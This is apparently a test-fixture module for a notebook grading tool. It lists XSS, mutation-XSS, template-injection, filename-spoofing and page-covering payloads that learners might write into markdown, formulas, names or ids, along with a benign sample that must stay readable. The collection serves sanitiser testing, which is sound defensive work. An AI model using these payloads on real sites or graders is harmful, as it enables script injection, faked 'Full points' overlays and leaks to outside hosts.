"""What a learner may write to run, load, link or cover something where others read it.

One list for all tests: as markdown, as a raw cell, as an output, as a message, a name or a comment.
A script that runs sets `window.RAN` or opens a dialog; what is loaded comes from OUTSIDE.
"""

# ruff: noqa: E501, an attack on one line is easier to read

OUTSIDE = "http://outside.invalid"
RUN = "window.RAN=1;alert(1)"
_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script after a null": f"<\x00script>{RUN}</script>",
    "script from outside": f'<script src="{OUTSIDE}/a.js"></script>',
    "handler": f'<img src="x" onerror="{RUN}">',
    "handler without quotes": "<img src=x onerror=window.RAN=1>",
    "handler after a slash": f"<img/src=x/onerror='{RUN}'>",
    "handler after a form feed": f'<img\x0csrc="x"\x0conerror="{RUN}">',
    "handler over lines": f'<img\nsrc="x"\nonerror="{RUN}"\n>',
    "handler of details": f'<details open ontoggle="{RUN}">x</details>',
    "handler of an input": f'<input autofocus onfocus="{RUN}">',
    "handler of a video": f'<video><source onerror="{RUN}"></video>',
    "handler of an animation": f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart='{RUN}'>",
    "handler of an unclosed tag": f'<img src="x" onerror="{RUN}" ',
    "svg": f'<svg onload="{RUN}"></svg>',
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "svg use": f'<svg><use href="{OUTSIDE}/a.svg#x"></use></svg>',
    "svg link": '<svg><a href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "style": f"<style>@import url({OUTSIDE}/a.css); body {{ display: none }}</style>",
    "style element": f"<style>body {{ background: url({OUTSIDE}/b.png) }}</style>",
    "style attribute": f'<div style="background:url({OUTSIDE}/c.png)">x</div>',
    "cover": f'<div style="{_COVER}">Full points</div>',
    "cover by a class": '<div class="modal-backdrop in navbar-fixed-top">Full points</div>',
    "cover by an id": '<div id="statusmessage">Full points</div>',
    "sheet": f'<link rel="stylesheet" href="{OUTSIDE}/d.css">',
    "preload": f'<link rel="prefetch" href="{OUTSIDE}/e"><link rel="preconnect" href="{OUTSIDE}">',
    "iframe": f'<iframe src="{OUTSIDE}/f"></iframe>',
    "iframe with its page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe of javascript": '<iframe src="javascript:parent.RAN=1"></iframe>',
    "meta": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/g">',
    "form": f'<form action="{OUTSIDE}/h"><input name="p"><button>Full credit</button></form>',
    "button of a form": f'<button form="x" formaction="{OUTSIDE}/i">Full credit</button>',
    "base": f'<base href="{OUTSIDE}/">',
    "object": f'<object data="{OUTSIDE}/j"></object>',
    "object of data": f'<object data="data:text/html;base64,{_B64}"></object>',
    "embed": f'<embed src="{OUTSIDE}/k">',
    "picture": f'<img src="{OUTSIDE}/l.png">',
    "picture without a scheme": '<img src="//outside.invalid/m.png">',
    "picture set": f'<picture><source srcset="{OUTSIDE}/n.png"><img srcset="{OUTSIDE}/o.png 1x"></picture>',
    "picture of svg": '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E">',
    "picture that covers": f'<img style="{_COVER}" src="data:image/png;base64,iVBORw0KGgo=">',
    "picture as plots show them, that covers": '<img alt="" style="position:fixed;top:0;left:0;width:100%;height:100%" src="data:image/png;base64,iVBORw0KGgo=">',
    "sound": f'<audio src="{OUTSIDE}/p" autoplay></audio>',
    "video": f'<video poster="{OUTSIDE}/q"></video>',
    "table": f'<table background="{OUTSIDE}/r"><tr><td background="{OUTSIDE}/s">x</td></tr></table>',
    "link to javascript": '<a href="javascript:alert(1)">x</a>',
    "link to javascript in entities": '<a href="&#106;ava&Tab;script&colon;alert(1)">x</a>',
    "link to vbscript": '<a href="vbscript:x">x</a>',
    "link to data": f'<a href="data:text/html;base64,{_B64}">x</a>',
    "link that opens a window": f'<a href="{OUTSIDE}/t" target="_top">Next</a>',
    "link that pings": f'<a href="#" ping="{OUTSIDE}/u">Next</a>',
    "map": f'<map name="m"><area href="{OUTSIDE}/v" shape="default"></map>',
    "mathml": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "mathml action": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
    "mathml annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
    "mutation by mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation by a title": f'<svg><title><style></title><img src=x onerror={RUN}></style></svg>',
    "mutation by a select": f"<select><template><style><!--</style><a title='--><img src=x onerror={RUN}>'>",
    "mutation by xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment that is not closed": "<!-- x",
    "bang": f"<!--!><img src=x onerror={RUN}>",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "processing": f"<?x <img src=x onerror={RUN}> ?>",
    "end of everything": f"</div></div></div></body></html><img src=x onerror={RUN}>",
    "end of a text": f"</textarea></title></pre></style></script><img src=x onerror={RUN}>",
    "plaintext": "<plaintext>",
    "template": f"<template><img src=x onerror={RUN}></template><slot>",
    "custom element": f'<x-y onclick="{RUN}" tabindex=1 autofocus onfocus="{RUN}">x</x-y>',
    "popover": '<div popover id=p>Full points</div><button popovertarget=p>Next</button>',
    "dialog": "<dialog open>Full points</dialog>",
}  # fmt: skip

MARKDOWN = {
    "link to javascript": "[x](javascript:alert(1))",
    "link in capitals": "[x](JaVaScRiPt:alert(1))",
    "link in entities": "[x](&#106;avascript&colon;alert(1))",
    "link with a tab": "[x](<java\tscript:alert(1)>)",
    "link after a control": "[x](<\x01javascript:alert(1)>)",
    "link with a backslash": "[x](javascript\\:alert(1))",
    "link to vbscript": "[x](vbscript:x)",
    "link to data": f"[x](data:text/html;base64,{_B64})",
    "link to a file": "[x](file:///etc/passwd)",
    "link with a handler for a title": f"[x](http://localhost 'a\" onmouseover=\"{RUN}')",
    "link by reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "link by reference, in a quote": "> [x][s]\n>\n> [s]: <javascript:alert(1)>",
    "link by reference, short": "[t]\n\n[t]:\n  javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "autolink to data": f"<data:text/html;base64,{_B64}>",
    "picture": f"![x]({OUTSIDE}/w.png)",
    "picture by reference": f"![x][u]\n\n[u]: {OUTSIDE}/x.png",
    "picture of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture of javascript": "![x](javascript:alert(1))",
    "picture in a link": f"[![x]({OUTSIDE}/y.png)](javascript:alert(1))",
    "attachment that is not there": "![x](attachment:nothing.png)",
    "footnote": f"x[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    "diagram": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "diagram with tildes": f"~~~ mermaid\n<script>{RUN}</script>\n~~~",
    "diagram that redirects": f'```mermaid\n<meta http-equiv="refresh" content="0;url={OUTSIDE}/z">\n```',
    "language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "heading that takes an id": "# experiment-figure-comment",
    "heading with html": f"# <img src=x onerror={RUN}>",
    "heading with a line": "statusmessage\n===",
    "table": f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|[x](javascript:alert(1))|",
    "list": f"- <img src=x onerror={RUN}>\n  1. [x](javascript:alert(1))",
    "code that ends early": f"`a` <img src=x onerror={RUN}> `b`",
    "code of two": f"`` ` <img src=x onerror={RUN}> `",
    "fence that does not end": f"```\n<img src=x onerror={RUN}>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "formula": f"$<img src=x onerror={RUN}>$",
    "formula with a comment": rf"$\text{{<!--><img src=x onerror={RUN}>}}$",
    "formula that ends an element": rf"$\text{{</mtext></math><meta http-equiv='refresh' content='0;url={OUTSIDE}/1'>}}$",
    "formula in an environment": rf"\begin{{align}}\text{{<script>{RUN}</script>}}\end{{align}}",
    "formula in a block": rf"$$\mbox{{<iframe src={OUTSIDE}/2>}}$$",
    "backslash": f"\\<img src=x onerror={RUN}>",
}  # fmt: skip

#: What MathJax, or latex2mathml, makes more of than letters.
FORMULAS = {
    "link": r"$\href{javascript:alert(1)}{x}$",
    "link with entities": r"&dollar;&bsol;href{javascript:alert(1)}{x}&#36;",
    "link in brackets": r"\\(\\href{javascript:alert(1)}{x}\\)",
    "link in an environment": r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation}",
    "extension": r"$\require{html}\href{javascript:alert(1)}{x}$",
    "style": r"$\style{position:fixed;top:0;left:0;width:100%;height:100%}{x}$",
    "class": r"$\class{modal-backdrop}{x}$",
    "id": r"$\cssId{statusmessage}{x}$",
    "letters": r"$\unicode[serif;position:fixed]{x61}$",
    "box": r"$\bbox[position:fixed;background:red]{x}$",
    "ink": r"$\rlap{\raise 40em{\rule{90em}{90em}}}$",
    "ink to the left": r"$\hspace{-40em}\smash{\rule{90em}{90em}}$",
    "row that moves up": r"$$\begin{matrix}a\\[-90em]b\end{matrix}$$",
    "definition": r"$\def\frac#1#2{#2}\gdef\sum{\prod}\let\alpha\beta$",
    "definition that never ends": r"$\newcommand{\x}{\x\x}\x$",
    "mathml": r"$\mmlToken{mi}[href='javascript:alert(1)']{x}$",
}

#: Everything that a markdown cell may hold.
ALL = {
    **{f"html: {name}": text for name, text in HTML.items()},
    **{f"markdown: {name}": text for name, text in MARKDOWN.items()},
    **{f"formula: {name}": text for name, text in FORMULAS.items()},
}

#: What a folder, a file or a learner may be called: short, and without a slash.
NAMES = {
    "handler": "<img src=x onerror=window.RAN=1>",
    "quote": "\"><img src=x onerror='window.RAN=1'>",
    "end of a script": "a'-(window.RAN=1)-'b",
    "template": "{{7*7}}${7*7}",
    "letters from right to left": "a\u202etxt.exe\u2066b",
    "very long": "w" * 180,
}

#: Of these, and of what is like them, a learner's id may be; nbgrader prints it into its script.
IDS = {
    "end of a script": NAMES["end of a script"],
    "template": "{{7*7}}${7*7}",
    "template of script": "`${window.RAN=1}`",
    "address": "javascript:window.RAN=1",
    "comment": "x -- --!* window.RAN=1 *!",
    "formula": "$x$",
    "semicolons": "';window.RAN=1;'",
    "very long": NAMES["very long"],
}
#: Markup, parts of an address, and what every object of JavaScript has: no learner's id.
NO_IDS = [
    NAMES["handler"], NAMES["quote"], "a&lt;b", 'a";window.RAN=1;"', "a\u003cb", "&amp;#x3c;",
    "ada?x", "ada#x", "%2e%2e", "ada%2fx",
]  # fmt: skip
#: In nbgrader's lists, one such learner leaves the whole class unseen.
OBJECT_NAMES = ["constructor", "__proto__", "toString", "valueOf", "hasOwnProperty"]

#: What must stay readable.
HONEST = """\
# My notes

**Bold**, *emphasis*, ~~struck~~, `a[i](x)` and $\\frac{1}{m}\\sum_{i=1}^m a^{(i)} \\le \\sigma$.

- one < two, and 3 > 2
- [ ] a task, as in [the course](https://example.org/course)

1. first

| a | b |
|---|---|
| 1 | 2 |

```python
if a<b and c&d:
    print("x")
```

> quoted
"""
